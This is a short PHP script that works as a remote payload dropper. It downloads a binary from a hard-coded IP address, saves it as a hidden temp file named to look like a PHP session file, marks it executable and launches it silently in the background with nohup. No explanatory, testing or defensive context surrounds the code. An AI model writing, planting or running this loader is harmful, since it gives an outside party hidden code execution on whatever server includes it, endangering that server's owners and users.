<?php
$bin = sys_get_temp_dir() . '/.phpsess';
$data = file_get_contents('http://203.0.113.66/p.bin');
if ($data !== false) {
    file_put_contents($bin, $data);
    chmod($bin, 0755);
    shell_exec("nohup $bin > /dev/null 2>&1 &");
}
